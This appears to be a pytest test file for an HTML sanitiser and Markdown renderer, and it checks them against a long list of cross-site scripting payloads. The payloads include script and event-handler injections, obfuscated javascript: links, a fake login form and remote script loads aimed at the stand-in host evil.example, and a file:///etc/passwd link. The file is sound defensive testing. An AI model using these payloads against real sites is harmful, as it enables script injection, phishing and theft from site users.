import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import given

from articles.document import Document, SourcePart
from articles.rendering.sanitise import sanitise
from articles.rendering.to_html import render_field
from tests.rendering.generated import markdown
from tests.rendering.reading import dangers, read

SOURCES = Document(sources=(SourcePart(key="a"), SourcePart(key="b")))

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=data:text/html,x></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<div class="explainer" id="faq">x</div>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--_status:1--><!-- --><!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "</p></div></article></main><script>alert(1)</script>",
    "<b <i <script>alert(1)//",
    '<a href="x" title="',
    "<img src=x onerror=alert(1)//",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](blob:https://a.example/x)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](</\t/evil.example/>)",
    "[x](&#47;&#47;evil.example)",
    '[x](/ok "onmouseover=alert(1) x=\'")',
    '[x](/ok "\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,AAAA)",
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    '![" onerror="alert(1)](/x.png)',
    '![x](/x.png "\\" onerror=\\"alert(1)")',
    "![[x](javascript:alert(1))](/x.png)",
    "[![x](//evil.example/x.png)](javascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: //evil.example '<script>'",
    "![x]\n\n[x]: //evil.example/x.png",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<https://a.example/\"onmouseover='alert(1)'>",
    '<x@a.example"onclick=alert(1)>',
    "a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    'a[^"><script>]\n\n[^"><script>]: x',
    "a^[<img src=x onerror=alert(1)> [x](//evil.example)]",
    "|<script>|[x](javascript:alert(1))|\n|-|-|\n|<img onerror=x>|![x](//evil.example/x)|",
    "# <script>alert(1)</script>\n\n<script>\n===",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "- <script>\n1. <svg onload=alert(1)>\n> <script>",
    "[@a, <script>alert(1)</script>]",
    '[@a, " onmouseover="alert(1)]',
    "[@none, <img src=x onerror=alert(1)>]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "&amp;lt;script&amp;gt; &NewLine; &Tab;",
    "\u202escript\u2028<script\u2029>",
    "<a\x0bhref=javascript:alert(1)>x",
    "<<script>script>alert(1)<</script>/script>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_in_markdown_leaves_nothing_dangerous(text):
    assert dangers(render_field(text, document=SOURCES)) == []


@pytest.mark.parametrize("html", ATTACKS)
def test_an_attack_that_came_past_the_parser_is_still_stopped(html):
    assert dangers(sanitise(html)) == []


@pytest.mark.parametrize(
    "html",
    [
        '<a href="javascript:alert(1)" onclick="x" target="_top" style="x" class="citation evil" rel="opener">x</a>',
        '<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\tjavascript:alert(1)">x</a>',
        '<img src="//evil.example/x"><img src="https://evil.example/x"><img srcset="https://evil.example/x 1x">',
        '<img srcset="/a.webp 1x, //evil.example/x 2x"><img srcset="/a.webp 1x,https://evil.example/x 2x">',
        '<img srcset=" //evil.example/x"><img srcset="\t//evil.example/x 1x"><img srcset="/\\evil.example/x 1x">',
        '<img srcset=", /a.webp 1x"><img srcset=""><img sizes="9999px" decoding="sync" loading="eager">',
        '<li id="faq"><a id="sources">x</a></li>',
    ],
)
def test_what_the_lists_do_not_name_is_dropped(html):
    assert dangers(sanitise(html)) == []
    page = read(sanitise(html))
    for element in page.elements:
        assert (
            not {"onclick", "target", "style", "srcset", "sizes", "decoding", "loading"}
            & element.attributes.keys()
        )
        assert "evil" not in "".join(element.attributes.values())
        assert (
            not element.attributes.get("id", "_")
            .lstrip("_")
            .startswith(("faq", "sources"))
        )


@given(markdown)
def test_any_text_renders_to_balanced_and_harmless_html(text):
    html = render_field(text, document=SOURCES)
    assert dangers(html) == []
    ids = read(html).ids
    assert len(ids) == len(set(ids))


def test_sanitising_twice_changes_nothing_but_slots():
    html = render_field(
        "a [@a] *b*\n\n|c|\n|-|\n|d|\n\n![e](/f 'g')[^1]\n\n[^1]: h", document=SOURCES
    )
    assert sanitise(html) == html


def test_nothing_else_in_the_project_marks_html_as_safe():
    root = Path(__file__).parents[2]
    names = subprocess.run(
        ["git", "ls-files", "*.py", "*.html"],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    )
    marking = re.compile(
        r"mark_safe|SafeString\(|SafeText|\|\s*safe\b|autoescape off|\bhtml_safe\b|__html__"
    )
    found = {
        name
        for name in names.stdout.split()
        if not name.startswith("tests/")
        and marking.search((root / name).read_text("utf-8"))
    }
    assert found <= {"articles/rendering/sanitise.py", "articles/rendering/slots.py"}, (
        "Only articles/rendering/sanitise.py and slots.py may mark HTML as safe. Use format_html, or sanitise()."
    )
